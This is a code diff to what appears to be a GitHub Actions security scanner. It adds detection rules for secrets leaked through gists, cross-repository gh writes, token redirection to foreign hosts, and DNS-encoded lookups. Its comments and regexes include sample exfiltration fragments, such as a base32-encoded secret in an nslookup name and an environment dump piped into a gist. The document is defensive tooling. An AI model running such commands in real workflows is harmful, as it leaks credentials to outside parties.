@@ -1,3 +1,4 @@
+import { dnsLookupInShell } from '../code/dns-exfiltration.js';
 import { ipInHostname, isPrivateAddress } from '../code/network-endpoints.js';
 import { makeFinding } from '../finding.js';
 import { lineOf } from '../util.js';
@@ -187,6 +188,7 @@ function sentFiles(job: RuleContext['workflow']['jobs'][number]): Map<string, st
   for (const step of job.steps) {
     for (const script of scriptsOf(step)) {
       for (const line of script.split('\n')) {
+        if (line.length <= MAX_COMMAND) for (const file of ghSentFiles(line)) sent.set(file, line.trim().slice(0, 120));
         if (!NETWORK_COMMAND.test(line) || line.length > MAX_COMMAND) continue;
         for (const m of line.matchAll(SENT_FILE)) {
           const file = (m[1] ?? '').replace(/^\.\//, '');
@@ -196,6 +198,34 @@ function sentFiles(job: RuleContext['workflow']['jobs'][number]): Map<string, st
     }
   }
   return sent;
+}
+
+/** `gh gist create|edit` and `gh release upload TAG`, with the words after them (files, options). */
+const GH_FILE_COMMAND = /\bgh\s+(?:gist\s+(?:create|new|edit\s+\S{1,100})|release\s+(?:upload|create)\s+\S{1,100})\s([^;&|\n]{1,500})/g;
+/** `--body-file f`, `-F f` of gh issue/pr create|comment. */
+const GH_BODY_FILE = /\bgh\s+(?:issue|pr)\s+(?:create|comment|edit)\b[^;&|\n]{0,300}?\s(?:--body-file|-F)(?:\s+|=)["']?([\w./${}~-]{1,200})/g;
+/** Options of those commands whose next word is their value, not a file. */
+const GH_VALUED_OPTION = /^(?:-d|--desc|-f|--filename|-R|--repo|-b|--body|-t|--title|-n|--notes|-F|--notes-file|--target|--discussion-category|--notes-start-tag)$/;
+
+/** The files a `gh` command uploads: a gist's files, a release's assets, an issue or comment body file. */
+function ghSentFiles(line: string): string[] {
+  if (!line.includes('gh ')) return [];
+  const files: string[] = [];
+  for (const m of line.matchAll(GH_FILE_COMMAND)) {
+    const words = (m[1] ?? '').trim().split(/\s+/).slice(0, 20);
+    for (let i = 0; i < words.length; i += 1) {
+      const raw = (words[i] ?? '').replace(/^["']|["']$/g, '');
+      // A release asset's display label (`file#label`) is not part of its path.
+      const word = raw.includes('#') ? raw.slice(0, raw.indexOf('#')) : raw;
+      if (word.startsWith('-')) {
+        if (GH_VALUED_OPTION.test(word)) i += 1;
+        continue;
+      }
+      if (word !== '' && word !== '-' && !word.includes('>')) files.push(word.replace(/^\.\//, ''));
+    }
+  }
+  for (const m of line.matchAll(GH_BODY_FILE)) files.push((m[1] ?? '').replace(/^\.\//, ''));
+  return files;
 }
 
 /** A command joined from continuation lines is read up to this length. */
@@ -412,23 +442,78 @@ function anonymousSecretSent(ctx: RuleContext, where: string, jobId: string, lin
     const value = env.get(v);
     if (value !== undefined) for (const n of credentialsIn(value, ctx.workflow.kind)) names.add(n);
   }
-  const anonymous = [...names].filter((n) => {
+  const anonymous: string[] = [];
+  const foreign: string[] = [];
+  for (const n of names) {
     const words = n.toUpperCase().split(/[^A-Z0-9]+/).filter((w) => w !== '');
-    return words.length > 0 && words.every((w) => GENERIC_SECRET_WORD.has(w)) && words.some((w) => CREDENTIAL_WORD.test(w));
-  });
-  if (anonymous.length === 0) return;
-  const shown = anonymous.map((n) => (n.startsWith('inputs.') ? n : `secrets.${n}`)).join(', ');
+    if (words.length === 0 || !words.some((w) => CREDENTIAL_WORD.test(w))) continue;
+    if (words.every((w) => GENERIC_SECRET_WORD.has(w))) anonymous.push(n);
+    else if (namedForOtherProduct(words, hosts)) foreign.push(n);
+  }
+  if (anonymous.length === 0 && foreign.length === 0) return;
+  const shown = [...anonymous, ...foreign].map((n) => (n.startsWith('inputs.') ? n : `secrets.${n}`)).join(', ');
   ctx.findings.push(
     makeFinding({
       id: 'gha-secrets-exfiltration',
       severity: 'high',
-      title: `A secret with no service in its name is sent as data to ${hosts.join(', ')}`,
-      detail: `${where} sends ${shown} in the body of a request to ${hosts.join(', ')}, a host that is no known service's and not named after this repository or its owner: a credential goes to its service as a header or a login, and a step that posts one to a host of its own choosing is how the GhostAction workflows of September 2025 took credentials. Fix: remove the step, or send the secret as the credential of the service it is for; if it ran, rotate it.`,
+      title: anonymous.length > 0 ? `A secret with no service in its name is sent as data to ${hosts.join(', ')}` : `A secret named for another product is sent as data to ${hosts.join(', ')}`,
+      detail:
+        `${where} sends ${shown} in the body of a request to ${hosts.join(', ')}, a host that is no known service's and not named after this repository or its owner` +
+        (foreign.length > 0 ? `, nor after what the secret's name says it is for (${foreign.join(', ')})` : '') +
+        `: a credential goes to its service as a header or a login, and a step that posts one to a host of its own choosing is how the GhostAction workflows of September 2025 took credentials (they used each repository's own secret names). Fix: remove the step, or send the secret as the credential of the service it is for; if it ran, rotate it.`,
       path: ctx.path,
       line: lineOf(ctx.content, line.trim()) ?? lineOf(ctx.content, item.trim()),
       subject: `${ANONYMOUS_SEND}${hosts.join(' ')}\u0001${jobId}:${line.trim()}`,
     }),
   );
+}
+
+/**
+ * Words of a secret's name that describe a use, not a product (`WEBHOOK_SECRET`, `SIGNING_KEY`,
+ * `CLIENT_SECRET`): a name made of these and generic words says nothing about where it belongs.
+ */
+const DESCRIPTIVE_SECRET_WORD = new Set(['CLIENT', 'CONSUMER', 'APPLICATION', 'SERVER', 'WEBHOOK', 'HOOK', 'HOOKS', 'SIGNING', 'SIGN', 'ENCRYPTION', 'ENCRYPT', 'DECRYPT', 'CIPHER', 'SMTP', 'MAIL', 'EMAIL', 'DATABASE', 'REGISTRY', 'STAGING', 'TEST', 'TESTING', 'DEV', 'DEVELOP', 'LICENSE', 'CACHE', 'UPLOAD', 'DOWNLOAD', 'NOTIFY', 'NOTIFICATION', 'CHAT', 'CHANNEL', 'ROBOT', 'BASIC', 'BEARER', 'OAUTH', 'OAUTH2', 'SESSION', 'COOKIE', 'JWT', 'HMAC', 'SHARED', 'PUBLIC', 'GPG', 'PGP', 'KEYSTORE', 'STORE', 'NEXUS', 'MAVEN', 'PACKAGE', 'PACKAGES', 'ACCOUNT', 'USERNAME', 'LOGIN', 'ORG', 'ORGANIZATION', 'PROJECT', 'TEAM', 'INTEGRATION', 'MACHINE', 'FINE', 'GRAINED', 'CLASSIC', 'LIVE', 'ENV', 'REMOTE', 'LOCAL', 'SITE', 'ALPHA', 'BETA', 'NIGHTLY', 'INTERNAL', 'EXTERNAL', 'PRIMARY', 'SECONDARY', 'BACKUP', 'NEW', 'OLD', 'MAIN', 'DEFAULT', 'GLOBAL', 'SECURE', 'ENCODED', 'BASE64', 'B64', 'JSON', 'FILE', 'DATA', 'VALUE', 'MASTER', 'AUTOMATION', 'WORKFLOW', 'ACTIONS', 'ACTION', 'RUNNER', 'TRIGGER', 'DISPATCH', 'PUSH', 'PULL', 'MERGE', 'COMMIT', 'SYNC', 'MIRROR']);
+/** Host labels too common to tie a host to a product: `api.`, `www.`, `.com`. */
+const COMMON_HOST_LABEL = new Set(['www', 'api', 'app', 'apps', 'com', 'net', 'org', 'dev', 'cloud', 'hooks', 'hook', 'io', 'co', 'ingest', 'collect', 'upload', 'cdn', 'data', 'login', 'auth', 'static']);
+
+/**
+ * Whether a secret whose name names a product (`MYAPP_TOKEN`, `ACME_DEPLOY_KEY`: a word of four
+ * letters or more that is neither generic nor a use) goes to hosts none of which carries that
+ * name (`myapp` in `api.my-app.io`, `pushover` in `api.pushover.net`), nor whose own name is in
+ * the secret's. Shorter words (`CF`, `DO`) may be abbreviations of the host's name and tell nothing.
+ */
+function namedForOtherProduct(words: readonly string[], hosts: readonly string[]): boolean {
+  const product = words.filter((w) => w.length >= 4 && !GENERIC_SECRET_WORD.has(w) && !DESCRIPTIVE_SECRET_WORD.has(w) && !/^\d+$/.test(w) && !SERVICE_HOSTS.has(w));
+  if (product.length === 0 || words.some((w) => SERVICE_HOSTS.has(w))) return false;
+  const compactName = words.join('').toLowerCase();
+  return !hosts.some((host) => {
+    const compactHost = host.replace(/[^a-z0-9]/g, '');
+    if (product.some((w) => compactHost.includes(w.toLowerCase()))) return true;
+    return host.split('.').some((label) => {
+      const l = label.replace(/[^a-z0-9]/g, '');
+      return l.length >= 4 && !COMMON_HOST_LABEL.has(l) && compactName.includes(l);
+    });
+  });
+}
+
+/**
+ * Whether a secret's name says it belongs to another service or product than every one of
+ * `places` (hosts, or hosts with their paths: `www.google.com/recaptcha/api/siteverify`): a name
+ * with a known service's word (`NPM_TOKEN`) and no place of that service's, or a product-named one
+ * (`ACME_DEPLOY_KEY`) and no place carrying its name. Names made only of generic words tell nothing.
+ * For program code, which reads a secret from the environment and posts it (code/scan-code-changes.ts).
+ */
+export function secretNamedForOtherPlace(name: string, places: readonly string[]): boolean {
+  if (places.length === 0) return false;
+  const words = name.toUpperCase().split(/[^A-Z0-9]+/).filter((w) => w !== '');
+  if (!words.some((w) => CREDENTIAL_WORD.test(w))) return false;
+  const services = servicesOf(name);
+  if (services.length > 0) {
+    const known = services.flatMap((sv) => SERVICE_HOSTS.get(sv) ?? []);
+    return !places.some((p) => known.some((k) => p.includes(k)));
+  }
+  if (places.some((p) => knownServiceHost(p))) return false;
+  return namedForOtherProduct(words, places);
 }
 
 /** A host of a service svc knows by name (npm, PyPI, GitHub, Slack, Netlify…). */
@@ -439,13 +524,16 @@ function knownServiceHost(host: string): boolean {
 
 /**
  * Drops the findings of a secret with no service in its name sent to a host named after the
- * repository or its owner (`tint.acme.dev` for acme/tint): the project's own server.
+ * repository or its owner (`tint.acme.dev` for acme/tint): the project's own server; and of
+ * secrets written with gh into a repository of the same owner.
  */
 export function dropOwnHostSends<T extends { readonly id: string; readonly key: string }>(findings: readonly T[], owner: string, repo: string): T[] {
   const names = [owner, repo].map((n) => n.toLowerCase().replace(/[^a-z0-9]/g, '')).filter((n) => n.length >= 3);
   return findings.filter((f) => {
     if (f.id !== 'gha-secrets-exfiltration') return true;
     const subject = f.key.slice(f.key.indexOf('\u0000', f.key.indexOf('\u0000') + 1) + 1);
+    // Secrets written into a repository of this repository's own owner stay in the family.
+    if (subject.startsWith(OTHER_REPOSITORY_SEND)) return subject.slice(OTHER_REPOSITORY_SEND.length, subject.indexOf('\u0001', OTHER_REPOSITORY_SEND.length)) !== owner.toLowerCase();
     if (!subject.startsWith(ANONYMOUS_SEND)) return true;
     const hosts = subject.slice(ANONYMOUS_SEND.length, subject.indexOf('\u0001', ANONYMOUS_SEND.length)).split(' ');
     return !hosts.every((h) => names.some((n) => h.replace(/[^a-z0-9.]/g, '').split('.').some((label) => label.includes(n))));
@@ -554,6 +642,110 @@ function readsRunnerMemory(ctx: RuleContext, where: string, jobId: string, scrip
   );
 }
 
+/** A `gh` command and what follows it on the line. */
+const GH_COMMAND = /(?:^|[\s;&|(`])gh\s+(api|gist|issue|pr|release|secret|variable|repo|workflow)\b([^;&\n]{0,2000})/;
+/** The repository a gh command is pointed at: `repos/OWNER/REPO/…` of `gh api`, `-R|--repo OWNER/REPO`. */
+const GH_TARGET_REPO = /(?:^|[\s"'/])repos\/([\w.-]{1,100})\/([\w.-]{1,100})|(?:^|\s)(?:-R|--repo)(?:\s+|=)["']?([\w.-]{1,100})\/([\w.-]{1,100})/;
+/** `--hostname H` of a gh command, `GH_HOST=H` before it. */
+const GH_HOSTNAME = /(?:^|\s)--hostname(?:\s+|=)["']?([\w.-]{1,253})|\bGH_HOST=["']?([\w.-]{1,253})/;
+/** The marker of a finding whose target repository's owner the analysis compares with the repository's. */
+export const OTHER_REPOSITORY_SEND = 'other-repository-send\u0001';
+/** The variables a gh command takes its token from. */
+const GH_TOKEN_VARIABLES = ['GH_TOKEN', 'GITHUB_TOKEN', 'GH_ENTERPRISE_TOKEN', 'GITHUB_ENTERPRISE_TOKEN'];
+
+/**
+ * What a `gh` command sends where no curl is needed: secrets put into a gist (`gh gist create`,
+ * public or "secret", readable by whoever has its URL), secrets written as data (`-f`, `--body`)
+ * into another owner's repository (`gh api repos/other/sink/issues -f body=…`, `gh issue create -R
+ * other/sink`), and the token handed to another host (`--hostname`, `GH_HOST`).
+ */
+function ghSent(ctx: RuleContext, where: string, jobId: string, line: string, env: ReadonlyMap<string, string>, assigned: ReadonlyMap<string, Assigned>): void {
+  if (!line.includes('gh ') || line.length > MAX_COMMAND) return;
+  const m = GH_COMMAND.exec(line);
+  if (m === null) return;
+  const kind = ctx.workflow.kind;
+  const sub = m[1] ?? '';
+  const rest = m[2] ?? '';
+  const secretsIn = (text: string): string[] => {
+    const names = new Set(credentialsIn(text, kind));
+    if (dumpsAllSecrets(text)) names.add('toJSON(secrets)');
+    for (const v of variablesIn(text)) {
+      const value = env.get(v);
+      if (value !== undefined) for (const n of credentialsIn(value, kind)) names.add(n);
+      if (value !== undefined && dumpsAllSecrets(value)) names.add('toJSON(secrets)');
+      for (const n of assigned.get(v)?.secrets ?? []) names.add(n);
+    }
+    return [...names];
+  };
+  const push = (severity: 'critical' | 'high', title: string, detail: string, subject: string): void => {
+    ctx.findings.push(makeFinding({ id: 'gha-secrets-exfiltration', severity, title, detail: `${where} ${detail} Fix: remove the step; if it ran, rotate the secrets it could see.`, path: ctx.path, line: lineOf(ctx.content, line.trim()), subject: `${subject}\u0001${jobId}:${line.trim()}` }));
+  };
+  // Secrets into a gist: on the command line, or piped into it (`echo … | gh gist create -`, `env | gh gist create`).
+  if (sub === 'gist' && /^\s+(?:create|new|edit)\b/.test(rest)) {
+    const before = line.slice(0, m.index);
+    const piped = before.includes('|') ? before.split(LIST_SEPARATOR).pop() ?? '' : '';
+    const stages = piped.split('|').filter(emitsWhatItIsGiven);
+    const names = secretsIn(`${rest} ${stages.join(' ')}`);
+    const wholeEnv = stages.some((st) => ENV_DUMP.test(st));
+    if (names.length > 0 || wholeEnv) {
+      const what = wholeEnv ? 'the whole environment (every secret the step can see)' : names.map((n) => (n.startsWith('inputs.') || n.startsWith('toJSON') ? n : `secrets.${n}`)).join(', ');
+      push('critical', 'Secrets are put into a gist', `puts ${what} into a gist with gh: a gist, "secret" or not, is readable by anyone with its link, outside this repository, and GitHub masks secrets in logs, not in gists.`, 'gist');
+      return;
+    }
+  }
+  // Secrets written as data into another owner's repository.
+  if (GH_SENDS.test(rest)) {
+    const target = GH_TARGET_REPO.exec(rest);
+    const owner = target?.[1] ?? target?.[3];
+    const repo = target?.[2] ?? target?.[4];
+    const data = rest.replace(CREDENTIAL_OPTION, ' ');
+    const names = secretsIn(data).filter((n) => !GH_TOKEN_VARIABLES.includes(n) || /\$\{?(?:GH_TOKEN|GITHUB_TOKEN)\b|secrets\.GITHUB_TOKEN|github\.token/.test(data));
+    if (owner !== undefined && repo !== undefined && !/[{}$:]/.test(owner) && names.length > 0) {
+      push(
+        'high',
+        `Secrets are written into the repository ${owner}/${repo} with gh`,
+        `writes ${names.map((n) => (n.startsWith('inputs.') || n.startsWith('toJSON') ? n : `secrets.${n}`)).join(', ')} as data (a field, a body) into ${owner}/${repo}, a repository of another owner than this one: what is posted there (an issue, a comment, a file) is read by that repository's owner, with no curl for a reviewer to notice.`,
+        `${OTHER_REPOSITORY_SEND}${owner.toLowerCase()}`,
+      );
+      return;
+    }
+  }
+  // The token handed to another host.
+  const hostMatch = GH_HOSTNAME.exec(line) ?? GH_HOSTNAME.exec(rest);
+  const host = (hostMatch?.[1] ?? hostMatch?.[2] ?? env.get('GH_HOST') ?? '').toLowerCase();
+  if (host === '' || host.includes('github') || /[{}$]/.test(host)) return;
+  const token = GH_TOKEN_VARIABLES.find((v) => {
+    const value = env.get(v);
+    return value !== undefined && (credentialsIn(value, kind).length > 0 || /\bgithub\.token\b|\bsecrets\s*\.\s*GITHUB_TOKEN\b/i.test(value));
+  });
+  if (token === undefined) return;
+  push('high', `The GitHub token is handed to ${host} with gh`, `points gh at ${host} (--hostname or GH_HOST) with ${token} set: gh sends that token as its credential to whatever host it is told, and ${host} is not GitHub's.`, `${ANONYMOUS_SEND}${host}`);
+}
+
+/**
+ * A secret or the environment written into the name a DNS lookup asks for (`nslookup "$(echo
+ * $T | base32).x.tld"`): the lookup carries it to that domain's name server, no HTTP client needed.
+ */
+function dnsSent(ctx: RuleContext, where: string, jobId: string, line: string, env: ReadonlyMap<string, string>, assigned: ReadonlyMap<string, Assigned>): void {
+  const kind = ctx.workflow.kind;
+  const lookup = dnsLookupInShell(line, (name) => {
+    const value = env.get(name);
+    return (value !== undefined && (credentialsIn(value, kind).length > 0 || dumpsAllSecrets(value))) || (assigned.get(name)?.secrets.length ?? 0) > 0;
+  });
+  if (lookup === null || (lookup.data !== 'secret' && lookup.data !== 'environment' && credentialsIn(line, kind).length === 0)) return;
+  ctx.findings.push(
+    makeFinding({
+      id: 'gha-secrets-exfiltration',
+      severity: 'critical',
+      title: `Secrets are sent out in a DNS lookup of *.${lookup.domain}`,
+      detail: `${where} looks up a name built from ${lookup.data === 'environment' ? 'the whole environment (every secret the step can see)' : 'a secret'} in front of ${lookup.domain}: the lookup carries those labels to that domain's name server, with no HTTP request to notice, and GitHub's log masking never sees them. Fix: remove the step; if it ran, rotate every secret it could see.`,
+      path: ctx.path,
+      line: lineOf(ctx.content, line.trim()),
+      subject: `${jobId}:dns:${line.trim()}`,
+    }),
+  );
+}
+
 export function secretRules(ctx: RuleContext): void {
   const kind = ctx.workflow.kind;
   for (const job of ctx.workflow.jobs) {
@@ -566,6 +758,8 @@ export function secretRules(ctx: RuleContext): void {
         const assigned = new Map<string, Assigned>();
         for (const line of script.split('\n')) {
           noteAssignment(line, env, assigned, kind);
+          dnsSent(ctx, where, job.id, line, env, assigned);
+          ghSent(ctx, where, job.id, line, env, assigned);
           if (!NETWORK_COMMAND.test(line)) continue;
           const secretVars = [...shellVariablesIn(line)].filter((name) => {
             const value = env.get(name);
